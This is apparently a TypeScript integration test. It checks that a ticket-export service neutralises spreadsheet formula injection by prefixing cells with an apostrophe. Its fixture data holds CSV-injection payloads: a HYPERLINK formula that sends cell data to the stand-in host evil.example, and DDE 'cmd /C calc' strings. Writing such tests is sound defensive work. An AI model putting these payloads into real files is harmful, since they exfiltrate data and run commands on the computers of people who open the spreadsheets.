import { expect } from 'chai';
import { exampleConfig, TOKENS, withoutRateLimits } from '../support/example-config';
import { startTestService, TestService } from '../support/test-service';
import { downloadCsv, exportAndWait } from './support/export-api';

describe('ticket export: cells typed by customers that spreadsheets would run as formulas (HTTP, csv-parse strict)', function () {
  this.timeout(60_000);
  let svc: TestService;
  before(async () => {
    svc = await startTestService({ config: withoutRateLimits(exampleConfig()) });
  });
  after(async () => {
    await svc.stop();
  });

  it('given tickets whose customer name, subject, query and order carry formulas, when exported, then the file parses strictly and every formula cell starts with an apostrophe, while phones and plain text stay as typed', async () => {
    // given
    const typed = [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', subject: '+cmd|\' /C calc\'!A0', query: '@SUM(1+1)*cmd|\' /C calc\'!A0', orderName: '-2+3+cmd|\' /C calc\'!A0', phone: '+14155550901' },
      { name: 'Kim Lee', subject: 'Damaged item', query: 'refund + return, please', orderName: '#1001', phone: '+14155550902' },
    ];
    for (const t of typed) {
      const r = await svc.api('POST', '/apis/tickets/manual', {
        token: TOKENS.acmeAdmin, body: { customer: { name: t.name, phone: t.phone }, subject: t.subject, query: t.query, orderName: t.orderName, forceCreateTicket: true },
      });
      expect(r.status, r.text).to.equal(200);
    }
    // when
    const { done } = await exportAndWait(svc, {});
    expect(done.body.job.status, JSON.stringify(done.body)).to.equal('succeeded');
    const csv = await downloadCsv(done.body.downloadUrl);
    // then every cell that starts like a formula is text, and the rest is as typed
    expect(csv.status).to.equal(200);
    for (const record of csv.records) {
      for (const cell of record) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `a cell starting like a formula: ${JSON.stringify(cell)}`).to.match(/^(\+[1-9]\d{6,14}|[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?)$/);
      }
    }
    const text = csv.text;
    // Customer Name and Order Name hold what was typed; subject and query reach Summary and Ticket Name (checked above, cell by cell).
    for (const formula of [typed[0].name, typed[0].orderName]) {
      expect(csv.records.some((r) => r.includes(`'${formula}`)), `${formula} written as text`).to.equal(true);
      expect(csv.records.some((r) => r.includes(formula)), `${formula} not written as typed`).to.equal(false);
    }
    expect(csv.records.some((r) => r.includes('Kim Lee'))).to.equal(true);
    expect(csv.records.some((r) => r.includes('+14155550902'))).to.equal(true);
    expect(text).to.not.match(/(^|,)=HYPERLINK/m);
  });
});
